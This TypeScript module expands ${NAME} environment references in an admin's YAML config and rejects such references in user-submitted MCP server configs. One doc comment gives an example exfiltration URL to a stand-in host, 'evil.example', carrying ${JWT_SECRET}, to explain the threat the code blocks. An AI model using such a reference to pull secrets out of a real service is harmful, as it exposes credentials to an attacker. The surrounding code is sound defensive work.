import { type ConfigIssue, type Locate, formatPath, issueAt } from './issues.js';

/** The environment as a plain lookup, passed in so tests (and nothing else) choose what it holds. */
export type EnvSource = Readonly<Record<string, string | undefined>>;

/** What {@link expandEnvReferences} produced: the expanded copy, and every reference it could not resolve. */
export interface Expansion {
  value: unknown;
  issues: ConfigIssue[];
}

const VARIABLE_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;

/**
 * Replaces each `${NAME}` in one string. `$${` stands for a literal `${`. A variable that is not set is
 * an issue, not an empty string: an empty token or URL fails later and far away from its cause.
 */
function expandString(text: string, env: EnvSource, report: (message: string) => void): string {
  let out = '';
  let from = 0;
  for (;;) {
    const start = text.indexOf('${', from);
    if (start === -1) return out + text.slice(from);
    if (start > from && text[start - 1] === '$') {
      out += `${text.slice(from, start - 1)}\${`;
      from = start + 2;
      continue;
    }
    out += text.slice(from, start);
    const end = text.indexOf('}', start + 2);
    if (end === -1) {
      report("has an unterminated '${': write '$${' for a literal '${'");
      return out + text.slice(start);
    }
    const name = text.slice(start + 2, end);
    // Own properties only: `${constructor}` must not find Object.prototype.constructor.
    const value = Object.hasOwn(env, name) ? env[name] : undefined;
    if (!VARIABLE_NAME.test(name)) {
      report(`'\${${name}}' is not a variable reference: use \${NAME} (letters, digits, '_')`);
      out += text.slice(start, end + 1);
    } else if (value === undefined) {
      report(`environment variable ${name} is not set`);
      out += text.slice(start, end + 1);
    } else {
      out += value;
    }
    from = end + 1;
  }
}

type Report = (path: readonly PropertyKey[], message: string) => void;

function expandValue(value: unknown, env: EnvSource, path: PropertyKey[], report: Report): unknown {
  if (typeof value === 'string') {
    return value.includes('${') ? expandString(value, env, (message) => report(path, message)) : value;
  }
  if (Array.isArray(value))
    return value.map((item, index) => expandValue(item, env, [...path, index], report));
  if (typeof value === 'object' && value !== null) {
    // fromEntries defines own properties, so a `__proto__` key in the YAML stays a plain (refused) key.
    return Object.fromEntries(
      Object.entries(value).map(([key, item]) => [key, expandValue(item, env, [...path, key], report)]),
    );
  }
  return value;
}

/**
 * Expands `${NAME}` in every string value (never in keys) of a parsed document, returning a copy.
 * Only the admin's YAML file goes through this: user-created servers must never be expanded, or a user
 * could read the hub's secrets by naming them in a URL (`https://evil.example/?k=${JWT_SECRET}`).
 */
export function expandEnvReferences(document: unknown, env: EnvSource, locate?: Locate): Expansion {
  const issues: ConfigIssue[] = [];
  const value = expandValue(document, env, [], (path, message) =>
    issues.push(issueAt(path, message, locate)),
  );
  return { value, issues };
}

function collectReferences(value: unknown, path: PropertyKey[], issues: ConfigIssue[]): void {
  if (typeof value === 'string') {
    if (/\$\{[^}]*\}/.test(value)) {
      issues.push({
        path: formatPath(path),
        message: 'environment variable references (${...}) are not allowed here',
      });
    }
  } else if (Array.isArray(value)) {
    value.forEach((item, index) => collectReferences(item, [...path, index], issues));
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) collectReferences(item, [...path, key], issues);
  }
}

/**
 * One issue per string that contains a `${...}` reference, for refusing them in user-supplied server
 * configs (`POST /api/mcp/servers` answers 400 for env references) instead of passing them on.
 */
export function findEnvReferences(value: unknown, prefix: readonly PropertyKey[] = []): ConfigIssue[] {
  const issues: ConfigIssue[] = [];
  collectReferences(value, [...prefix], issues);
  return issues;
}
